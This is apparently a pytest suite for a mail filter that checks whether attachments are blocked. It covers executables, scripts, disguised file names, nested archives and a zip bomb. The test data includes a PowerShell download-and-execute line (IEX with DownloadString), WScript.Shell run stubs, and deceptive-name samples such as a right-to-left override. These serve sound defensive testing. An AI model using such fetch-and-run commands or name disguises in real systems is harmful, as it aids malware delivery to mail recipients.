"""Attachments: executables and scripts by content and by name, in any wrapping; WarLord.

Every sample is built here in code: headers of executables, scripts, archives. No malware.
"""

import base64
import binascii
import io
import zipfile

import pytest
from clamav import TEXT_PART, forwarded, mime
from conftest import ROOT, assert_clean_failure, envelope

# The walk is the same code in both modes: the tests marked both_modes also run through
# qqfilter serve (its preloaded libraries, its memory, settings per connection).

ENV = envelope(b"alice@example.com", b"bob@example.org")

PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 100
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60
JSCRIPT = b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n'
VBSCRIPT = b'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc"\n'
HTA = b'<html><head><HTA:APPLICATION ID="x"></head><body>hi</body></html>\n'
POWERSHELL = b"$c = New-Object System.Net.WebClient\nIEX ($c.DownloadString('http://x'))\n"
BATCH = b"@echo off\r\nstart calc.exe\r\n"
ISO = b"\x00" * 32769 + b"CD001\x01" + b"\x00" * 2000


def _fat_image() -> bytes:
    """A 1.44 MB floppy's FAT12 boot sector and the start of its FAT."""
    import struct

    sector = bytearray(512)
    sector[0:11] = b"\xeb\x3c\x90MSDOS5.0"
    struct.pack_into("<HBHBHHBHHHII", sector, 11, 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
    struct.pack_into("<BBBI11s8s", sector, 36, 0, 0, 0x29, 0x1234, b"NO NAME    ", b"FAT12   ")
    sector[510:512] = b"\x55\xaa"
    return bytes(sector) + b"\xf0\xff\xff" + b"\x00" * 4000


FAT = _fat_image()
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(256)) * 40


def zip_of(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def part(data: bytes, name: bytes | None, ctype: bytes = b"application/octet-stream") -> bytes:
    """A base64 part, named or not."""
    named = b'; name="' + name + b'"' if name is not None else b""
    return (
        b"Content-Type: "
        + ctype
        + named
        + b"\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(data)
    )


@pytest.mark.both_modes
@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (PE, b"report.pdf", "DOS/Windows executable (MZ)"),
        (ELF, b"data.bin", "ELF executable"),
        (MACHO, b"data.bin", "Mach-O executable"),
        (LNK, b"photo.jpg", "Windows shortcut (LNK)"),
        (JSCRIPT, b"readme.txt", "Windows script (WSH, HTA or PowerShell)"),
        (VBSCRIPT, b"readme.txt", "Windows script (WSH, HTA or PowerShell)"),
        (HTA, b"page.html", "Windows script (WSH, HTA or PowerShell)"),
        (POWERSHELL, b"notes.txt", "Windows script (WSH, HTA or PowerShell)"),
        (BATCH, b"notes.txt", "DOS batch file"),
        (ISO, b"photos.bin", "ISO 9660 CD-ROM filesystem data"),
        (FAT, b"photos.bin", "DOS/MBR boot sector"),
    ],
)
def test_executable_content_is_refused_whatever_its_name(qq, data, name, kind):
    out = qq.submit(mime(TEXT_PART, part(data, name)), ENV)
    assert_clean_failure(out, 31)
    assert out.field("check") == "mime"
    assert out.field("tag") == "Reject::DATA::MIME_Attach"
    assert out.field("reason") == f'attachment "{name.decode()}": {kind}'
    assert out.field("detail").startswith("part 2 application/octet-stream base64")


@pytest.mark.parametrize(
    "wrapping",
    ["7bit", "quoted-printable", "uuencode in the body", "part without headers", "junk base64"],
)
def test_an_executable_in_any_transfer_encoding(qq, wrapping):
    if wrapping == "7bit":
        body = b"Content-Type: application/octet-stream\n\n" + PE
    elif wrapping == "quoted-printable":
        body = b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n"
        body += binascii.b2a_qp(PE)
    elif wrapping == "uuencode in the body":
        lines = b"".join(binascii.b2a_uu(PE[i : i + 45]) for i in range(0, len(PE), 45))
        body = b"Content-Type: text/plain\n\nSee below.\nbegin 644 readme.txt\n" + lines
        body += b"`\nend\n"
    elif wrapping == "part without headers":
        body = b"\n" + PE
    else:
        encoded = base64.encodebytes(PE)
        body = b"Content-Transfer-Encoding: base64\n\n" + encoded[:20] + b"!!@@##" + encoded[20:]
        body = body.rstrip(b"=\n") + b"=\n"
    out = qq.submit(mime(TEXT_PART, body), ENV)
    assert_clean_failure(out, 31)
    assert "DOS/Windows executable" in out.field("reason")


@pytest.mark.parametrize(
    ("name_header", "shown"),
    [
        (b'name="invoice.pdf.exe"', "invoice.pdf.exe"),
        (b'name="setup.SCR"', "setup.SCR"),
        (b'name="update.exe. . "', "update.exe. ."),
        (b"name*=utf-8''invoice%2Epdf%2Ejs", "invoice.pdf.js"),
        (b'name="=?utf-8?B?0YHRh9GR0YIuZXhl?="', "\\u0441\\u0447\\u0451\\u0442.exe"),
    ],
)
def test_blocked_names_in_every_spelling(qq, name_header, shown):
    body = (
        b"Content-Type: application/octet-stream; " + name_header + b"\n"
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(b"harmless bytes")
    )
    out = qq.submit(mime(TEXT_PART, body), ENV)
    assert_clean_failure(out, 31)
    assert out.field("reason").startswith(f'attachment "{shown}": blocked file name extension')


def test_a_right_to_left_override_in_a_name_is_refused(qq):
    body = (
        b"Content-Type: application/pdf\n"
        b"Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\n"
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF)
    )
    out = qq.submit(mime(TEXT_PART, body), ENV)
    assert_clean_failure(out, 31)
    assert out.field("reason").endswith("file name holds text-direction marks")


@pytest.mark.both_modes
@pytest.mark.parametrize(
    ("archive", "why"),
    [
        (zip_of(("docs/readme.txt", b"hi"), ("docs/invoice.pdf.exe", b"x")), "invoice.pdf.exe"),
        (zip_of(("report.pdf", PE)), "report.pdf: DOS/Windows executable"),
        (zip_of(("inner.zip", zip_of(("deep/tool.txt", PE)))), "deep/tool.txt: DOS/Windows"),
        (zip_of(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"x")), "Java"),
    ],
)
def test_archives_are_opened(qq, archive, why):
    out = qq.submit(mime(TEXT_PART, part(archive, b"documents.zip")), ENV)
    assert_clean_failure(out, 31)
    assert out.field("reason").startswith('attachment "documents.zip": ')
    assert why in out.field("reason")


def test_a_forwarded_message_is_looked_into(qq):
    inner = mime(part(PE, b"report.pdf"), subject=b"inner", boundary=b"=_inner")
    out = qq.submit(mime(TEXT_PART, forwarded(inner)), ENV)
    assert_clean_failure(out, 31)
    assert out.field("detail").startswith("part 2.1 application/octet-stream")


@pytest.mark.both_modes
def test_a_zip_bomb_costs_its_heads_only(qq):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.txt", "w") as member:
            block = b"\x00" * (1 << 20)
            for _ in range(300):
                member.write(block)
        archive.writestr("inner.zip", zip_of(("a.txt", b"a")))
    bomb = buffer.getvalue()
    assert len(bomb) < 1 << 20
    out = qq.submit(mime(TEXT_PART, part(bomb, b"bomb.zip")), ENV, measure=True)
    assert out.returncode == 0, out.stderr
    assert out.peak_kib < 64 * 1024


def test_archive_budgets_are_noted_not_silent(qq):
    many = zip_of(*((f"file{i}.txt", b"x") for i in range(30)))
    out = qq.submit(mime(TEXT_PART, part(many, b"many.zip")), ENV, env={"QQF_ARCHIVEMEMBERS": "10"})
    assert out.returncode == 0, out.stderr
    assert out.field("notes") == "mime: too many archive members"
    deep = zip_of(("x.exe", b"x"))
    for level in (3, 2, 1):
        deep = zip_of((f"l{level}.zip", deep))
    out = qq.submit(mime(TEXT_PART, part(deep, b"deep.zip")), ENV)
    assert out.returncode == 0, out.stderr
    assert "archives nested deeper than 2" in out.field("notes")


def test_mime_nesting_past_the_limit_is_refused_as_uncheckable(qq):
    message = TEXT_PART
    for level in range(40):
        message = mime(message, boundary=b"=_level%d" % level)
        message = message.split(b"\n\n", 1)[1]  # the body only, to nest as a part
        message = b'Content-Type: multipart/mixed; boundary="=_level%d"\n\n' % level + message
    out = qq.submit(b"Subject: deep\nMIME-Version: 1.0\n" + message, ENV)
    assert_clean_failure(out, 31)
    assert out.field("reason").startswith("message structure too complex to check: MIME nesting")
    out = qq.submit(b"Subject: deep\n" + message, ENV, env={"QQF_MIMEDEPTH": "100"})
    assert out.returncode == 0, out.stderr


def test_sqmail_codes_give_34(qq):
    out = qq.submit(mime(TEXT_PART, part(PE, b"x.bin")), ENV, env={"QQF_CODES": "sqmail"})
    assert_clean_failure(out, 34)


@pytest.mark.both_modes
def test_checks_can_be_switched_off_per_connection(qq):
    message = mime(TEXT_PART, part(PE, b"setup.exe"))
    off = {"QQF_BLOCKEXT": "none", "QQF_BLOCKKINDS": "none"}
    assert qq.submit(message, ENV, env=off).returncode == 0
    assert_clean_failure(qq.submit(message, ENV, env={"QQF_BLOCKEXT": "none"}), 31)
    out = qq.submit(message, ENV, env={"QQF_ATTACHSKIP": "relayclient", "RELAYCLIENT": ""})
    assert out.returncode == 0
    assert out.field("notes") == "mime: skipped: RELAYCLIENT"
    out = qq.submit(mime(TEXT_PART, part(b"text", b"a.docm")), ENV, env={"QQF_BLOCKEXT": "docm"})
    assert_clean_failure(out, 31)


@pytest.mark.both_modes
def test_the_toml_file_sets_the_lists(qq, tmp_path):
    config = tmp_path / "qqfilter.toml"
    config.write_text('blockext = ["zip"]\nblockkinds = ["elf"]\n')
    env = {"QQF_CONFIG": str(config)}
    assert qq.submit(mime(TEXT_PART, part(PE, b"setup.exe")), ENV, env=env).returncode == 0
    assert_clean_failure(qq.submit(mime(TEXT_PART, part(ELF, b"a.bin")), ENV, env=env), 31)


def _warlord_home(qq, *files: str) -> None:
    control = qq.tmp / "qmail" / "control"
    control.mkdir(parents=True, exist_ok=True)
    for name in files:
        (control / name).write_bytes((ROOT / "docs" / "control" / name).read_bytes())


NO_CONTENT_CHECKS = {"QQF_BLOCKEXT": "none", "QQF_BLOCKKINDS": "none"}


@pytest.mark.both_modes
def test_badmimetype_refuses_by_the_first_nine_base64_characters(qq):
    _warlord_home(qq, "badmimetypes")
    message = mime(TEXT_PART, part(PE, b"report.pdf"))
    out = qq.submit(message, ENV, env={**NO_CONTENT_CHECKS, "BADMIMETYPE": "1"})
    assert_clean_failure(out, 31)
    assert out.field("tag") == "Reject::DATA::Bad_MIME"
    assert out.field("reason") == 'attachment "report.pdf": banned base64 signature TVqQAAMAA'
    for value, relay in (("-", {}), ("+", {"RELAYCLIENT": ""})):
        env = {**NO_CONTENT_CHECKS, "BADMIMETYPE": value, **relay}
        assert qq.submit(message, ENV, env=env).returncode == 0


def test_badmimetype_bang_refuses_white_space_in_base64(qq):
    _warlord_home(qq, "badmimetypes")
    spaced = b"Content-Transfer-Encoding: base64\n\nSGVsbG8g d29ybGQ=\n"
    out = qq.submit(mime(TEXT_PART, spaced), ENV, env={"BADMIMETYPE": "!"})
    assert_clean_failure(out, 31)
    assert out.field("reason") == "attachment part 2: white space inside base64"
    assert qq.submit(mime(TEXT_PART, spaced), ENV, env={"BADMIMETYPE": "1"}).returncode == 0


def test_badloadertype_finds_loader_fragments_anywhere_in_base64(qq):
    _warlord_home(qq, "badloadertypes")
    for shift in range(3):
        data = PDF + b"\x01" * shift + b"KERNEL32.DLL\x00" + PDF
        message = mime(TEXT_PART, part(data, b"report.pdf"))
        out = qq.submit(message, ENV, env={**NO_CONTENT_CHECKS, "BADLOADERTYPE": "M"})
        assert_clean_failure(out, 31)
        assert out.field("tag") == "Reject::DATA::Bad_Loader"
    clean = mime(TEXT_PART, part(PDF, b"report.pdf"))
    assert qq.submit(clean, ENV, env={"BADLOADERTYPE": "M"}).returncode == 0


@pytest.mark.both_modes
def test_warlord_on_without_its_control_file_is_noted_not_silent(qq):
    """s/qmail says nothing when BADMIMETYPE is set and control/badmimetypes is missing (the
    test simply never refuses); qqfilter notes it on the log line of every message."""
    message = mime(TEXT_PART, part(PE, b"report.pdf"))
    env = {**NO_CONTENT_CHECKS, "BADMIMETYPE": "", "BADLOADERTYPE": "M"}
    out = qq.submit(message, ENV, env=env)
    assert out.returncode == 0, out.stderr
    assert out.field("notes") == (
        "mime: warlord: BADMIMETYPE set but control/badmimetypes is missing; "
        "warlord: BADLOADERTYPE set but control/badloadertypes is missing"
    )
    out = qq.submit(message, ENV, env={"BADMIMETYPE": "!"})  # the other tests still run
    assert_clean_failure(out, 31)
    assert out.field("tag") == "Reject::DATA::MIME_Attach"
    for off in ({"BADMIMETYPE": "-"}, {"BADMIMETYPE": "+", "RELAYCLIENT": ""}, {}):
        out = qq.submit(message, ENV, env={**NO_CONTENT_CHECKS, **off})
        assert out.returncode == 0, out.stderr
        assert out.field("notes") is None


def test_warlord_control_files_with_no_entry_are_noted(qq):
    control = qq.tmp / "qmail" / "control"
    control.mkdir(parents=True)
    (control / "badmimetypes").write_text("# nothing yet\nTVqQ\n")
    (control / "badloadertypes").write_text("Mi5kb\n")
    message = mime(TEXT_PART, part(PDF, b"report.pdf"))
    env = {**NO_CONTENT_CHECKS, "BADMIMETYPE": "1", "BADLOADERTYPE": "Q"}
    out = qq.submit(message, ENV, env=env)
    assert out.returncode == 0, out.stderr
    assert out.field("notes") == (
        "mime: warlord: BADMIMETYPE set but control/badmimetypes has no entry of 9 characters "
        "or more; warlord: BADLOADERTYPE set but control/badloadertypes has no entry of 5 "
        "characters or more starting with Q"
    )


def _docx() -> bytes:
    return zip_of(
        ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
        ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
    )


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 200
CLEAN_MAIL = {
    "plain text": b"Subject: hi\n\nJust text.\n",
    "html alternative": (
        b'Subject: news\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary="a"\n\n'
        b"--a\nContent-Type: text/plain; charset=utf-8\n\nHello\n"
        b"--a\nContent-Type: text/html; charset=utf-8\n\n<html><body><p>Hello</p>"
        b"<script>var x = 1;</script></body></html>\n--a--\n"
    ),
    "inline image": (
        b'Subject: pic\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="r"\n\n'
        b'--r\nContent-Type: text/html\n\n<img src="cid:logo">\n--r\n'
        b"Content-Type: image/png\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(PNG)
        + b"--r--\n"
    ),
    "office and pdf": mime(
        TEXT_PART,
        part(_docx(), b"contract.docx"),
        part(zip_of(("[Content_Types].xml", b"<T/>"), ("xl/workbook.xml", b"<w/>")), b"q3.xlsx"),
        part(PDF, b"invoice.pdf"),
    ),
    "cjk": (
        b"Subject: =?ISO-2022-JP?B?GyRCOC1AUTxxGyhC?=\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="j"\n\n--j\n'
        b"Content-Type: text/plain; charset=ISO-2022-JP\n\n\x1b$B$3$s$K$A$O\x1b(B\n--j\n"
        b"Content-Type: text/plain; charset=GB2312\nContent-Transfer-Encoding: 8bit\n\n"
        b"\xc4\xe3\xba\xc3\n--j\n"
        b'Content-Type: application/pdf; name="=?UTF-8?B?6KaL56mN5pu4LnBkZg==?="\n'
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(PDF) + b"--j--\n"
    ),
    "calendar": mime(
        TEXT_PART,
        b'Content-Type: text/calendar; method=REQUEST; name="meeting.ics"\n\n'
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n",
    ),
    "digest": (
        b'Subject: list digest\nMIME-Version: 1.0\nContent-Type: multipart/digest; boundary="d"\n'
        b"\n--d\n\nFrom: a@example.com\nSubject: one\n\nfirst\n"
        b"--d\n\nFrom: b@example.com\nSubject: two\n\nsecond\n"
        b"--d\n\nFrom: c@example.com\nSubject: three\n\nthird\n--d--\n"
    ),
    "zip of documents": mime(
        TEXT_PART, part(zip_of(("report.pdf", PDF), ("notes.txt", b"notes")), b"docs.zip")
    ),
    "forward with text": mime(
        TEXT_PART, forwarded(b"From: x@example.com\nSubject: fwd\n\nold text\n")
    ),
}


@pytest.mark.both_modes
@pytest.mark.parametrize("shape", list(CLEAN_MAIL))
def test_clean_mail_passes_byte_identical(qq, shape):
    message = CLEAN_MAIL[shape]
    _warlord_home(qq, "badmimetypes", "badloadertypes")
    out = qq.submit(message, ENV, env={"BADMIMETYPE": "1", "BADLOADERTYPE": "M"})
    assert out.returncode == 0, out.stderr
    assert out.message == message
    assert out.field("verdict") == "accept"


def test_random_binary_data_is_not_taken_for_an_executable():
    """Compressed or encrypted files look random: none may be taken for one of the kinds."""
    import random

    from qqfilter.checks.mime.filetypes import content_kind

    rng = random.Random(7)
    flagged = []
    for _ in range(3000):
        head = rng.randbytes(4096)
        if head.startswith((b"MZ", b"\x7fELF", b"L\x00\x00\x00")):
            continue  # those bytes are what the magic numbers mean
        kind = content_kind(head, attachment=True)
        if kind:
            flagged.append(kind)
    assert flagged == []


def test_repeated_folded_header_fields_do_not_end_the_headers(qq):
    """Real mail has many folded Received lines; a later copy's continuation is still header."""
    received = b"Received: from a (HELO a) (192.0.2.1)\n  by mx with SMTP; date\n"
    message = received * 3 + mime(TEXT_PART, part(PE, b"report.pdf"))
    out = qq.submit(message, ENV)
    assert_clean_failure(out, 31)
    assert "DOS/Windows executable" in out.field("reason")
